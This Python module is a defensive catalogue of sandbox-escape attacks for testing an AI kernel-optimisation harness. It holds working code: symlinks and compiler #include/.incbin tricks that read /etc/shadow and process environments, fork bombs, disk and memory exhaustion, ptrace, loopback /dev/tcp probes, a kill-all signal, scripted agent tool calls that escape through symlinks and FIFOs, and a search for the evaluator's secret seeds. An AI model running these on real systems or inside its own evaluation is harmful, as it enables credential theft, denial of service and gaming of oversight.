"""The catalogue of sandbox attacks: small descriptions, one runner per channel (cuda_agent.selftest.sandbox).

Channels:
- ``build``: code that runs while the candidate is built. A KERNELBENCH ``model_new.py`` is imported in the build
  sandbox, so ``code`` runs there with ``E`` = its TORCH_EXTENSIONS_DIR, the directory the host copies into the
  artifact and later into every evaluation. Attacks that plant files there (``read_back``) are evaluated too: the
  module, evaluated, reads back whatever the host copied and raises it into the verdict (two-stage exfiltration).
  With ``files`` the candidate is a PROJECT whose sources attack the compiler instead (includes of host files).
- ``run``: code in ``ModelNew.__init__`` in the evaluation child, with ``W`` = its working directory, which the
  host reads after the child exits (result.json, outputs.pt, the reference-done marker).
- ``agent``: tool calls of an agent rollout (``POST /v1/optimize`` with the replay policy): ``bash`` runs in the
  sandbox, the file tools run on the host against whatever the bash calls left in the workspace.

Placeholders (``string.Template``): ``$canary`` (a root-only host file), ``$canary_dir``, ``$sink`` (a host
directory that must stay empty), ``$outside`` (host paths no sandboxed write may create), ``$ports`` (a Python list of
loopback ports: a listener of the suite, the APIs, Redis, Postgres) and ``$control`` (a token the control attacks
print, proving the channel's output is visible so that the absence of a marker means something).

An attack that reaches a goal the host cannot see by itself (a connection, a fork count, gigabytes written)
says ``ESCAPED: <what>`` where its output lands; the judge fails any attack whose outputs hold that marker or a
secret, that left anything in the sink, that connected to the listener, or whose job did not finish.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from cuda_agent.contracts.candidate import MODEL_NEW_FILE

# Above the quotas the stack configures (Stack.child_env), so an attack that gets all of it found no quota.
MEMORY_HOG_BYTES = 6 * 1024**3
DISK_FILL_BYTES = 1536 * 1024**2  # written in 64 MiB files: under any per-file limit
DISK_FILL_FILES = 50_000  # empty files: inodes are a quota too
FORK_BOMB_PROCESSES = 1000


@dataclass(frozen=True)
class Attack:
    name: str
    channel: str  # build | run | agent
    goal: str  # what the attack tries, one line
    code: str = ""  # build/run: Python statements
    files: dict[str, str] = field(default_factory=dict)  # build: a PROJECT candidate's kernels instead of code
    tools: tuple[tuple[str, dict[str, object]], ...] = ()  # agent: (tool name, arguments) in order
    hazardous: bool = False  # may wedge a worker when the hole is open: run after the others, then reset
    read_back: bool = False  # build: plants files for the host; evaluate the artifact to read back what it copied


# Helpers every build/run attack may call; prepended to its code.
PRELUDE = r'''
import os, sys, socket, stat, ctypes, gc, signal, time
CANARY, CANARY_DIR, SINK, PORTS, OUTSIDE = "$canary", "$canary_dir", "$sink", $ports, $outside

def say(text):
    """End the process with ``text`` where the tenant sees it: the build log, or the verdict's message (which
    shows the message a SystemExit carries)."""
    print(text, flush=True)
    print(text, file=sys.stderr, flush=True)
    raise SystemExit(text)

def escaped(what):
    say("ESC" + "APED: " + what)  # spelled apart, so the source echoed back never holds the marker

def secrets_in(root):
    """Lines that look like secrets in every file under root, links followed, FIFOs not waited on."""
    found = []
    for dirpath, _dirs, names in os.walk(root, followlinks=True):
        for name in names:
            try:
                fd = os.open(os.path.join(dirpath, name), os.O_RDONLY | os.O_NONBLOCK)
                data = os.read(fd, 1 << 16)
                os.close(fd)
            except OSError:
                continue
            for line in data.decode("latin-1").replace("\0", "\n").splitlines():
                if "CANARY" in line or "\x24y\x24" in line or "\x246\x24" in line:
                    found.append(line[:160])
    return found

def reveal(found):
    if found:
        say("LEAKED " + " | ".join(found)[:1500])

def try_connect():
    reached = []
    for port in PORTS:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            reached.append(port)
        except OSError:
            pass
    for host in ("10.0.2.2", "1.1.1.1"):
        try:
            socket.create_connection((host, 53), timeout=1).close()
            reached.append(host)
        except OSError:
            pass
    if reached:
        escaped("network reached %s" % reached)

def try_write_outside():
    # A write that succeeds may land in the sandbox's own tmpfs: the judge looks for these paths on the host.
    for path in OUTSIDE:
        try:
            with open(path, "w") as f:
                f.write("pwned")
        except OSError:
            pass

def fill_disk(where):
    os.makedirs(where, exist_ok=True)
    chunk = b"x" * (64 * 1024**2)
    written = 0
    try:
        while written < $disk_bytes:
            with open(os.path.join(where, "fill%d" % (written // len(chunk))), "wb") as f:
                f.write(chunk)
            written += len(chunk)
    except OSError:
        return
    escaped("wrote %d MiB" % (written // 1024**2))

def fill_inodes(where):
    # Judged by what the host does with them (copies them, stays responsive, gives a verdict), not by the count.
    os.makedirs(where, exist_ok=True)
    try:
        for i in range($disk_files):
            open(os.path.join(where, "f%d" % i), "w").close()
    except OSError:
        pass

def fork_bomb():
    pids = []
    try:
        for _ in range($forks):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            pids.append(pid)
    except OSError:
        pass
    finally:
        for pid in pids:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    if len(pids) >= $forks:
        escaped("forked %d processes" % len(pids))

def hog_memory():
    held = []
    try:
        while len(held) * 256 * 1024**2 < $memory_bytes:
            block = bytearray(256 * 1024**2)
            for i in range(0, len(block), 4096):
                block[i] = 1
            held.append(block)
    except MemoryError:
        return
    finally:
        held.clear()
    escaped("allocated %d MiB" % ($memory_bytes // 1024**2))

def try_ptrace():
    libc = ctypes.CDLL(None, use_errno=True)
    pid = os.fork()
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    attached = libc.ptrace(16, pid, None, None) == 0  # PTRACE_ATTACH
    os.kill(pid, signal.SIGKILL)
    if attached:
        escaped("ptrace attached to pid %d" % pid)

def read_environments():
    found = ["%s=%s" % kv for kv in os.environ.items()]
    for entry in os.listdir("/proc"):
        for part in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (entry, part), "rb") as f:
                    found += f.read().decode("latin-1").split("\0")
            except OSError:
                pass
    return [line for line in found if "CANARY" in line]

SECRET_FIELDS = ("seed", "base_seed", "scale_seed", "spot_indices", "nonce", "layout")

def find_job_description():
    # Before the first trial, nothing in this process may know a trial's seed, which timed calls are checked or the
    # report's nonce: any harness object or dict holding such a field, anywhere in the process, is a leak.
    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict):  # a protocol message as parsed from its JSON line
                found = "op" in obj and any(f in obj for f in SECRET_FIELDS)
            else:
                fields = vars(obj) if hasattr(obj, "__dict__") else {}
                found = type(obj).__module__.startswith("cuda_agent") and any(f in fields for f in SECRET_FIELDS)
        except Exception:
            continue
        if found:
            escaped("found the job description: " + type(obj).__name__ + " " + repr(obj)[:120])
'''

# One correct transpose candidate that runs an attack at build time (module level, in the build sandbox only)
# and, once evaluated, reads back what the host copied from the build into its extension directory.
KERNELBENCH_BUILD = r"""
import os, sys
import torch
import torch.nn as nn
$prelude
E = os.environ.get("TORCH_EXTENSIONS_DIR", "torch_extensions")

if not any(name.startswith("cuda_agent.eval") for name in sys.modules):  # the build, not the evaluation
    try:
$code
    except OSError as exc:
        print("attack step refused:", exc)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        reveal(secrets_in(E) + secrets_in("."))

    def forward(self, x):
        out = torch.empty(x.shape[1], x.shape[0], dtype=x.dtype, device=x.device)
        out.copy_(x.t())
        return out
"""

# A correct transpose candidate whose constructor, in the evaluation child, attacks first.
KERNELBENCH_RUN = r"""
import os, sys
import torch
import torch.nn as nn
$prelude
W = os.getcwd()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
$code

    def forward(self, x):
        out = torch.empty(x.shape[1], x.shape[0], dtype=x.dtype, device=x.device)
        out.copy_(x.t())
        return out
"""

# The PROJECT candidate the compiler-level attacks extend: a transpose by a C++ launcher.
PROJECT_MODEL_NEW = """
import torch
import torch.nn as nn

from cuda_agent.kernels import load_kernels


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.kernels = load_kernels()

    def forward(self, x):
        x = x.contiguous()
        out = torch.empty(x.shape[1], x.shape[0], dtype=x.dtype, device=x.device)
        self.kernels.transpose(x, out, x.shape[0], x.shape[1])
        return out
"""
PROJECT_KERNEL = """
extern "C" void transpose(const float* x, float* out, long long rows, long long cols) {
    for (long long r = 0; r < rows; ++r)
        for (long long c = 0; c < cols; ++c) out[c * rows + r] = x[r * cols + c];
}
"""


def _build(name: str, goal: str, code: str, hazardous: bool = False) -> Attack:
    return Attack(name, "build", goal, code=code, hazardous=hazardous)


def _plant(name: str, goal: str, code: str, hazardous: bool = False) -> Attack:
    return Attack(name, "build", goal, code=code, hazardous=hazardous, read_back=True)


def _compiler(name: str, goal: str, source: str) -> Attack:
    return Attack(name, "build", goal, files={"kernels/attack.cpp": source + PROJECT_KERNEL})


def _run(name: str, goal: str, code: str, hazardous: bool = False) -> Attack:
    return Attack(name, "run", goal, code=code, hazardous=hazardous)


def _agent(name: str, goal: str, *tools: tuple[str, dict[str, object]], hazardous: bool = False) -> Attack:
    return Attack(name, "agent", goal, tools=tools, hazardous=hazardous)


def _bash(command: str) -> tuple[str, dict[str, object]]:
    return ("bash", {"command": command})


ATTACKS: tuple[Attack, ...] = (
    # --- build time: the host copies what the build leaves in its extension dir --------------------------------
    _build("build_control", "the build's output reaches the compile log (channel check)", 'say("$control".lower())'),
    _plant("build_symlink_canary", "link to a root-only host file", 'os.symlink(CANARY, E + "/leak.txt")'),
    _plant("build_symlink_canary_dir", "link to a host directory", 'os.symlink(CANARY_DIR, E + "/leakdir")'),
    _plant("build_symlink_shadow", "link to /etc/shadow", 'os.symlink("/etc/shadow", E + "/shadow")'),
    _plant(
        "build_symlink_nested",
        "link deep inside a built extension's folder",
        'os.makedirs(E + "/ext/sub", exist_ok=True)\n'
        'os.symlink(CANARY, E + "/ext/sub/build.ninja")\nos.symlink(CANARY, E + "/ext/lock")',
    ),
    _plant(
        "build_symlink_proc_environ",
        "link to /proc/self/environ: the copying host's own environment",
        'os.symlink("/proc/self/environ", E + "/env")\nos.symlink("/proc/1/environ", E + "/env1")',
    ),
    _plant(
        "build_symlink_dev_zero", "link to /dev/zero: an endless read", 'os.symlink("/dev/zero", E + "/zero")', True
    ),
    _plant("build_fifo", "a FIFO the host blocks on when it copies it", 'os.mkfifo(E + "/pipe")', True),
    _plant(
        "build_device_node",
        "a character device node (or a link to one) left for the host",
        "try:\n    os.mknod(E + '/null', 0o666 | stat.S_IFCHR, os.makedev(1, 5))\n"
        "except OSError:\n    os.symlink('/dev/urandom', E + '/urandom')",
        True,
    ),
    _plant(
        "build_hardlink",
        "hard links: to a file of the sandbox and to a read-only package file",
        'open(E + "/a", "w").write("x")\nos.link(E + "/a", E + "/b")\n'
        "import cuda_agent.eval.child as c\ntry:\n    os.link(c.__file__, E + '/child.py')\nexcept OSError:\n    pass",
    ),
    _build("build_disk_fill_bytes", "fill the host disk with big files", "fill_disk(E + '/fill')"),
    _build("build_disk_fill_files", "exhaust inodes with empty files", "fill_inodes(E + '/many')"),
    _build("build_fork_bomb", "fork without bound", "fork_bomb()"),
    _build("build_network", "reach loopback services and the internet", "try_connect()"),
    _build(
        "build_read_environments",
        "read the environment of every visible process",
        "print(read_environments())",
    ),
    _build("build_write_outside", "write host paths outside the build dir", "try_write_outside()"),
    _compiler("build_include_canary", "#include a root-only host file", '#include "$canary"\n'),
    _compiler("build_include_shadow", "#include /etc/shadow", '#include "/etc/shadow"\n'),
    _compiler(
        "build_incbin_environ",
        "embed the compiler's environment in the library",
        'asm(".section .rodata\\n.incbin \\"/proc/self/environ\\"\\n.previous");\n',
    ),
    _compiler(
        "build_incbin_canary",
        "embed a root-only host file in the library",
        'asm(".section .rodata\\n.incbin \\"$canary\\"\\n.previous");\n',
    ),
    # --- run time: the evaluation child -----------------------------------------------------------------------
    _run("run_control", "the child's error reaches the verdict (channel check)", 'say("$control".lower())'),
    _run("run_read_canary", "read a root-only host file", "reveal([open(CANARY).read()])"),
    _run("run_read_shadow", "read /etc/shadow", "reveal(secrets_in('/etc'))"),
    _run("run_read_environments", "read the environment of every visible process", "reveal(read_environments())"),
    _run(
        "run_proc_of_parent",
        "the parent's files through /proc (root, cwd, fds)",
        "found = []\nfor pid in os.listdir('/proc'):\n"
        "    for sub in ('root' + CANARY_DIR, 'cwd', 'fd'):\n"
        "        found += secrets_in('/proc/%s/%s' % (pid, sub)) if pid.isdigit() else []\nreveal(found)",
    ),
    _run("run_job_description", "reach the secret seed and spot-check indices", "find_job_description()"),
    _run("run_network", "reach loopback services and the internet", "try_connect()"),
    _run("run_ptrace", "ptrace another process", "try_ptrace()"),
    _run("run_memory_hog", "hold more memory than any evaluation needs", "hog_memory()"),
    _run("run_fork_bomb", "fork without bound", "fork_bomb()"),
    _run("run_disk_fill_bytes", "fill the host disk from the workdir", "fill_disk(W + '/fill')"),
    _run("run_disk_fill_files", "exhaust inodes from the workdir", "fill_inodes(W + '/many')"),
    _run("run_write_outside", "write host paths outside the workdir", "try_write_outside()"),
    _run(
        "run_result_symlink_canary",
        "result.json as a link to a root-only host file, read by the host",
        "os.symlink(CANARY, 'result.json')\nos.symlink(CANARY, 'outputs.pt')\nos._exit(0)",
    ),
    _run(
        "run_result_dev_zero",
        "result.json as a link to /dev/zero",
        "os.symlink('/dev/zero', 'result.json')\nos._exit(0)",
        True,
    ),
    _run("run_result_fifo", "result.json as a FIFO", "os.mkfifo('result.json')\nos._exit(0)", True),
    _run(
        "run_reference_done_symlink",
        "the reference-done marker as a link: the host touches a path of the candidate's choice",
        "os.symlink(SINK + '/touched', 'reference_done')",
    ),
    _run("run_kill_everything", "signal every process it can see", "os.kill(-1, signal.SIGKILL)"),
    # --- agent: bash in the sandbox, then the host-side file tools ------------------------------------------------
    _agent("agent_control", "bash output reaches the trajectory (channel check)", _bash("echo $control | tr A-Z a-z")),
    _agent(
        "agent_read_symlink",
        "read_file through a link to a host file",
        _bash("ln -s $canary leak.txt"),
        ("read_file", {"path": "leak.txt"}),
    ),
    _agent(
        "agent_read_symlink_dir",
        "read_file, glob and grep through a link to a host directory",
        _bash("ln -s $canary_dir d"),
        ("read_file", {"path": "d/canary.txt"}),
        ("glob", {"pattern": "d/*"}),
        ("grep", {"pattern": "CANARY", "path": "d"}),
    ),
    _agent(
        "agent_grep_symlink",
        "grep over a link to a host file",
        _bash("ln -s $canary g.txt"),
        ("grep", {"pattern": "."}),
    ),
    _agent(
        "agent_edit_symlink",
        "edit_file through a link to a host file",
        _bash("ln -s $canary e.txt"),
        ("edit_file", {"path": "e.txt", "edits": [{"old_string": "CANARY", "new_string": "X"}]}),
    ),
    _agent(
        "agent_write_symlink",
        "write_file through a link: create a host file",
        _bash("ln -s $sink/written.txt w.txt"),
        ("write_file", {"path": "w.txt", "content": "pwned"}),
    ),
    _agent(
        "agent_write_symlink_dir",
        "write_file under a linked directory",
        _bash("ln -s $sink out"),
        ("write_file", {"path": "out/x.txt", "content": "pwned"}),
    ),
    _agent(
        "agent_compile_symlink",
        "ship a host file as kernel source through compile",
        _bash("mkdir -p kernels && ln -s $canary kernels/k.cpp && ln -s $canary kernels/k.h"),
        ("write_file", {"path": MODEL_NEW_FILE, "content": "import torch\n"}),
        ("compile", {}),
    ),
    _agent(
        "agent_hardlink_tools",
        "hard link to a workspace file, then write through the other name",
        _bash("ln SKILL.md s.txt && ln model.py m.txt"),
        ("write_file", {"path": "s.txt", "content": "pwned"}),
        ("read_file", {"path": "m.txt"}),
    ),
    _agent(
        "agent_fifo_read",
        "read_file of a FIFO: the host blocks",
        _bash("mkfifo f.txt"),
        ("read_file", {"path": "f.txt"}),
        hazardous=True,
    ),
    _agent(
        "agent_dev_zero_read",
        "read_file of a link to /dev/zero",
        _bash("ln -s /dev/zero z.txt"),
        ("read_file", {"path": "z.txt"}),
        hazardous=True,
    ),
    _agent(
        "agent_bash_environ", "bash reads every visible environment", _bash("env; cat /proc/*/environ | tr '\\0' '\\n'")
    ),
    _agent(
        "agent_bash_network",
        "bash reaches loopback services",
        _bash(
            "for p in $ports_shell; do (exec 3<>/dev/tcp/127.0.0.1/$$p) 2>/dev/null"
            " && printf 'ESC%sAPED: port %s\\n' '' $$p; done"
        ),
    ),
    _agent("agent_bash_fork_bomb", "bash fork bomb", _bash("b(){ b|b & }; b; sleep 3; echo done")),
)
